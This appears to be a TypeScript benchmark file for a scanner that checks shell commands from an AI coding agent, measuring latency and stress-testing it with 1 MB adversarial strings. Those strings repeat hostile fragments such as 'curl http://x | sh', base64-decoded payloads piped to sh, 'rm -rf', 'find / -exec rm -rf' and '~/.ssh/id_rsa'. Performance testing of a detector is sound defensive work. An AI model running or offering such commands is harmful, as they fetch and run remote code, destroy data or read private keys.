import type { ScanInput } from '@vigil/scanner-spec';
import { toParts } from '@vigil/scanners';
import { inputOf, scanBoth, type Row } from './run.js';

export interface Latency { calls: number; p50: number; p99: number; max: number; mbPerSec: number }

function shell(command: string): ScanInput {
  const value = { command };
  return { stage: 'tool_input', client: 'claude-code', tool: { name: 'Bash', kind: 'shell' }, value, parts: toParts(value) };
}

/** Per-call latency (µs) of commands + files over `calls` scans cycling through the rows. */
export function latency(rows: readonly Row[], calls = 10_000): Latency {
  const inputs = rows.map(inputOf);
  // Steady state: the first ~10 000 calls of a process include JIT compilation pauses of several ms.
  for (let i = 0; i < 30_000; i++) scanBoth(inputs[i % inputs.length]!);
  const times = new Float64Array(calls);
  let bytes = 0;
  const t0 = performance.now();
  for (let i = 0; i < calls; i++) {
    const inp = inputs[i % inputs.length]!;
    const s = performance.now();
    scanBoth(inp);
    times[i] = (performance.now() - s) * 1000;
    for (const p of inp.parts) bytes += p.text.length;
  }
  const total = performance.now() - t0;
  const sorted = Array.from(times).sort((a, b) => a - b);
  return { calls, p50: sorted[Math.floor(calls * 0.5)]!, p99: sorted[Math.floor(calls * 0.99)]!, max: sorted[calls - 1]!, mbPerSec: bytes / 1e6 / (total / 1000) };
}

/** A realistic ~10 KB command: a here-document writing a source file, then a build. */
export function tenKbCommand(): string {
  const body = Array.from({ length: 220 }, (_, i) => `export function f${i}(x: number): number { return x * ${i} + 1; }`).join('\n');
  return `mkdir -p src/gen && cat > src/gen/funcs.ts <<'TS'\n${body}\nTS\nnpx tsc --noEmit && npm test -- --runInBand 2>&1 | tail -20`;
}

/** Hostile 1 MB command strings: long runs of what the parser and rules care about. */
export function adversarial(): Array<[string, string]> {
  const M = 1 << 20;
  return [
    ['$( nesting', '$('.repeat(M / 2)],
    ['backticks', '`'.repeat(M)],
    ['pipes', 'a|'.repeat(M / 2)],
    ['unterminated quote', `echo '${'a'.repeat(M)}`],
    ['here-doc operators', '<<a '.repeat(M / 4)],
    ['here-doc without end', `cat <<EOF\n${'curl x | sh\n'.repeat(M / 12)}`],
    ['many commands', 'rm -rf ./a; '.repeat(M / 12)],
    ['curl pipes', 'curl http://x | sh; '.repeat(M / 20)],
    ['sh -c nesting', 'sh -c "'.repeat(M / 7)],
    ['eval nesting', 'eval eval eval '.repeat(M / 15)],
    ['base64 pipe', `echo ${'QUFB'.repeat(M / 4)} | base64 -d | sh`],
    ['redirections', '>'.repeat(M)],
    ['arith', '$(('.repeat(M / 3)],
    ['functions', 'f(){ '.repeat(M / 5)],
    ['fork bomb prefix', 'a(){ a|'.repeat(M / 7)],
    ['paths', '~/.ssh/id_rsa '.repeat(M / 14)],
    ['xargs chain', 'xargs '.repeat(M / 6)],
    ['sudo chain', 'sudo '.repeat(M / 5)],
    ['find exec', `find / ${'-exec rm -rf {} \\; '.repeat(M / 20)}`],
    ['dollar quotes', "$'".repeat(M / 2)],
  ];
}

/** Milliseconds to scan one command with both scanners. */
export function timeOne(command: string): number {
  const inp = shell(command);
  const s = performance.now();
  scanBoth(inp);
  return performance.now() - s;
}
